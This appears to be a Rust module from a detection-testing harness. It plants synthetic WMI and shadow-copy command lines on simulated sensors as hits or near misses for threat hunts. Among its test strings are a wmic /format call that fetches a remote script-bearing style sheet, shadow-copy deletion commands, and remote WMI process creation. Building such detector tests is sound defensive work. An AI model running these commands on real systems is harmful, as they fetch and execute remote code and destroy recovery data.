//! Planted command lines on every kind of sensor: style sheets with script and the modules they load, shadow copies, wmic seen by
//! other products, and what looks like any of them. It knows nothing of raw shapes or files.

use super::answers::{Hunt, Kind};
use super::event::Integrity;
use super::planned::{Launch, Scene};
use super::programs::{
    CMD, CSCRIPT, EXPLORER, JSCRIPT, POWERSHELL, Program, SVCHOST, VBSCRIPT, VSSADMIN, WMIC,
    WMIPRVSE,
};
use super::stories::{HOUR, MILLISECOND, MINUTE, Stage};
use super::world::{DEFENDER, FALCON, OCSF, SENTINEL};

use Hunt::{
    CommandOutputRedirectedToShare, DcomexecCommand, NetexecCommand, PowershellWmiCommandLine,
    RemoteWmiCommandAttempt, ShadowCopyDeletion, WmiCommandExecution, WmiProviderChildProcess,
    WmicFormat, WmicProcessCallCreate, WmicRemoteIp, WmicRemoteNode, WmicScriptDllLoad,
    WmicXslScript,
};

/// A command line, where and when (day, hour, minute) it is used, and what the hunts say of it besides those whose answers come by
/// themselves.
struct Case {
    scene: (usize, usize),
    when: (u32, i64, i64),
    program: &'static Program,
    parent: &'static Program,
    command: &'static str,
    loads: Option<&'static Program>,
    hits: &'static [Hunt],
    misses: &'static [Hunt],
    why: &'static str,
}

const fn case(
    scene: (usize, usize),
    when: (u32, i64, i64),
    program: &'static Program,
    command: &'static str,
    why: &'static str,
) -> Case {
    Case {
        scene,
        when,
        program,
        parent: &EXPLORER,
        command,
        loads: None,
        hits: &[],
        misses: &[],
        why,
    }
}

static CASES: [Case; 22] = [
    Case {
        loads: Some(&JSCRIPT),
        hits: &[WmicFormat, WmicRemoteIp],
        ..case(
            (0, 5),
            (0, 9, 40),
            &WMIC,
            r#"wmic  os get /format:"http://198.51.100.9/payload.xsl""#,
            "a style sheet from a web server, and the engine that runs its script",
        )
    },
    Case {
        loads: Some(&VBSCRIPT),
        hits: &[WmicFormat],
        misses: &[WmicRemoteIp],
        ..case(
            (4, 1),
            (1, 10, 5),
            &WMIC,
            r"wmic  process get brief /format:style.xsl",
            "a style sheet from the current folder, and the engine that runs its script",
        )
    },
    Case {
        loads: Some(&VBSCRIPT),
        misses: &[WmicScriptDllLoad],
        ..case(
            (0, 5),
            (1, 10, 30),
            &CSCRIPT,
            r"cscript.exe //nologo C:\Users\Public\printers.vbs",
            "a script host loads its engine, as it must",
        )
    },
    Case {
        hits: &[WmicFormat],
        misses: &[WmicXslScript, WmicRemoteIp],
        ..case(
            (OCSF, 0),
            (0, 9, 15),
            &WMIC,
            "wmic  os get caption,version /format:list",
            "an output style that comes with Windows",
        )
    },
    case(
        (1, 4),
        (1, 21, 10),
        &WMIC,
        "wmic  shadowcopy delete /nointeractive",
        "deletes all shadow copies",
    ),
    case(
        (2, 4),
        (2, 21, 30),
        &VSSADMIN,
        "vssadmin  delete shadows /all /quiet",
        "deletes all shadow copies",
    ),
    case(
        (DEFENDER, 2),
        (1, 20, 10),
        &POWERSHELL,
        r#"powershell.exe -Command "Get-WmiObject Win32_ShadowCopy | ForEach-Object { $_.Delete() }""#,
        "deletes all shadow copies, one after the other",
    ),
    case(
        (FALCON, 2),
        (1, 18, 15),
        &POWERSHELL,
        r#"powershell.exe -NoP -Command "Invoke-WmiMethod -ComputerName SRV-APP02 -Class Win32_Process -Name Create -ArgumentList notepad.exe""#,
        "PowerShell starts a process on another host, on its command line",
    ),
    Case {
        misses: &[PowershellWmiCommandLine],
        ..case(
            (1, 3),
            (1, 18, 40),
            &POWERSHELL,
            r#"powershell.exe -NoP -Command "Get-Service winmgmt | Format-List""#,
            "about the WMI service, but no call to WMI",
        )
    },
    Case {
        misses: &[ShadowCopyDeletion, WmiCommandExecution],
        ..case(
            (1, 4),
            (1, 20, 50),
            &WMIC,
            "wmic  shadowcopy list brief",
            "looks at shadow copies",
        )
    },
    Case {
        misses: &[ShadowCopyDeletion],
        ..case(
            (2, 4),
            (2, 3, 30),
            &VSSADMIN,
            "vssadmin  list shadows /for=D:",
            "looks at shadow copies",
        )
    },
    Case {
        misses: &[WmicRemoteNode, RemoteWmiCommandAttempt],
        ..case(
            (0, 3),
            (2, 12, 15),
            &WMIC,
            r#"wmic  process call create "notepad.exe C:\Reports\today.txt""#,
            "starts a process on this host",
        )
    },
    Case {
        misses: &[WmicProcessCallCreate, WmiCommandExecution],
        ..case(
            (0, 3),
            (2, 12, 40),
            &CMD,
            "cmd.exe  /c echo process call create >> C:\\Reports\\notes.txt",
            "the words, and another program",
        )
    },
    Case {
        hits: &[RemoteWmiCommandAttempt, WmicRemoteIp],
        ..case(
            (DEFENDER, 2),
            (2, 13, 20),
            &WMIC,
            r"wmic  /node:10.20.3.40 /user:CORP\adm.reyes os get caption",
            "another host by its address, seen by Defender",
        )
    },
    Case {
        hits: &[RemoteWmiCommandAttempt],
        misses: &[WmicRemoteIp],
        ..case(
            (SENTINEL, 0),
            (1, 9, 50),
            &WMIC,
            r#"wmic  /NODE:SRV-FILE01 process call create "cmd.exe /c hostname""#,
            "starts a process on another host, seen by Sentinel: no original name",
        )
    },
    Case {
        hits: &[RemoteWmiCommandAttempt, WmicRemoteIp],
        ..case(
            (OCSF, 1),
            (1, 16, 45),
            &WMIC,
            "wmic  /node:10.20.3.41,10.20.3.42 service list brief",
            "two other hosts, as OCSF",
        )
    },
    Case {
        hits: &[RemoteWmiCommandAttempt],
        misses: &[WmicRemoteIp],
        ..case(
            (FALCON, 1),
            (0, 16, 25),
            &WMIC,
            "wmic  /node:localhost os get caption",
            "this host, seen by CrowdStrike",
        )
    },
    Case {
        misses: &[CommandOutputRedirectedToShare],
        ..case(
            (1, 4),
            (0, 12, 20),
            &CMD,
            r"cmd.exe  /c dir D:\Reports > \\SRV-FILE01\logs$\reports.txt",
            "a list for a server's share: neither silent nor with errors",
        )
    },
    Case {
        misses: &[DcomexecCommand],
        ..case(
            (0, 3),
            (0, 12, 35),
            &CMD,
            r"cmd.exe  /c start C:\Reports\__17000.txt",
            "a child of explorer.exe and a file named after five digits, opened by hand",
        )
    },
    Case {
        misses: &[NetexecCommand],
        ..case(
            (1, 3),
            (0, 13, 25),
            &CMD,
            r"cmd.exe  /c netstat -ano > C:\Windows\Temp\report.txt 2>&1",
            "a report in the system's Temp: neither silent nor six letters",
        )
    },
    Case {
        parent: &SVCHOST,
        misses: &[WmiProviderChildProcess],
        ..case(
            (0, 0),
            (0, 7, 5),
            &WMIPRVSE,
            r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding",
            "the provider host itself starts",
        )
    },
    Case {
        hits: &[WmicFormat, WmicRemoteIp],
        ..case(
            (FALCON, 0),
            (2, 9, 35),
            &WMIC,
            r"wmic  os get /format:\\203.0.113.77\pub\sheet",
            "a style sheet from a share outside, seen by CrowdStrike",
        )
    },
];

/// Plants what is for the nth day (from 0) of so many.
pub(crate) fn plant(stage: &mut Stage<'_>, midnight: i64, nth: u32, days: u32) {
    for case in &CASES {
        if nth == case.when.0 % days {
            tell(stage, midnight, case);
        }
    }
}

fn tell(stage: &mut Stage<'_>, midnight: i64, case: &Case) {
    let (collector, nth) = case.scene;
    let host = stage.host_at(Scene { collector, nth });
    let (_, hour, minute) = case.when;
    let lag = stage.rng.between(0, 59_000) * MILLISECOND;
    let at = midnight + hour * HOUR + minute * MINUTE + lag;
    let key = ("command_line", case.command);
    let hits = case.hits.iter().map(|hunt| (*hunt, Kind::Hit));
    let misses = case.misses.iter().map(|hunt| (*hunt, Kind::NearMiss));
    let stories: Vec<usize> = hits
        .chain(misses)
        .filter(|(hunt, _)| *hunt != WmicScriptDllLoad)
        .map(|(hunt, kind)| stage.begin(hunt, kind, host, key, case.why))
        .collect();
    let parent = stage.long_running(host, case.parent);
    let account = stage.account_of(host);
    let process = stage.launch(&Launch {
        host,
        at,
        program: case.program,
        image: None,
        command: case.command,
        directory: r"C:\Windows\system32\",
        account,
        integrity: Integrity::High,
        parent: &parent,
        client: None,
        stories: &stories,
        audit_stories: &stories,
    });
    if let Some(module) = case.loads {
        let kind = if case.misses.contains(&WmicScriptDllLoad) {
            Kind::NearMiss
        } else {
            Kind::Hit
        };
        let key = ("image_loaded", module.path);
        let story = stage.begin(WmicScriptDllLoad, kind, host, key, case.why);
        stage.load(host, at + 350 * MILLISECOND, &process, module, &[story]);
    }
}
